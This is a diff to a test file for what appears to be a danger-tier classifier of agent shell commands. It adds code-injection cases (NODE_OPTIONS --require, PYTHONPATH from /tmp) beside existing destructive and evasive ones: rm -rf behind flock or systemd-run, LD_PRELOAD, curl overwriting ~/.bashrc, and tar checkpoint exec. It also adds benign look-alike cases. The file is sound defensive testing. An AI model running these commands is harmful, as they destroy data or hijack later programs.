@@ -15,6 +15,8 @@ test.each([
   ['behind a program that waits for a lock', 'flock /tmp/a rm -rf src'],
   ['behind a program that starts a service', 'systemd-run rm -rf src'],
   ['words made by braces', '{rm,-rf,src}'],
+  ['code for one program', 'NODE_OPTIONS=--require=/tmp/x.js npm test'],
+  ['modules from elsewhere', 'PYTHONPATH=/tmp/x pytest'],
   ['code for every program started later', 'export LD_PRELOAD=/tmp/x.so'],
   ['a download over what the next shell runs', 'curl -o ~/.bashrc https://example.com/x'],
   ['a program that tar runs', 'tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh b'],
@@ -50,6 +52,8 @@ test.each([
   ['a plain alias', 'run_command', { command: "alias ll='ls -la'" }],
   ['a path for programs', 'run_command', { command: 'export NODE_ENV=test && npm test' }],
   ['a plain submodule', 'run_command', { command: 'git submodule update --init' }],
+  ['memory for a build', 'run_command', { command: 'NODE_OPTIONS=--max-old-space-size=4096 npm run build' }],
+  ['modules of the project', 'run_command', { command: 'PYTHONPATH=src pytest -q' }],
   ['a quoted word of SQL', 'query', { sql: "select * from t where action = 'delete from x'" }],
 ])('what developers do all day is not dangerous: %s', (_, name, args) => {
   expect(tierOf(name, args)).toBeLessThan(3);
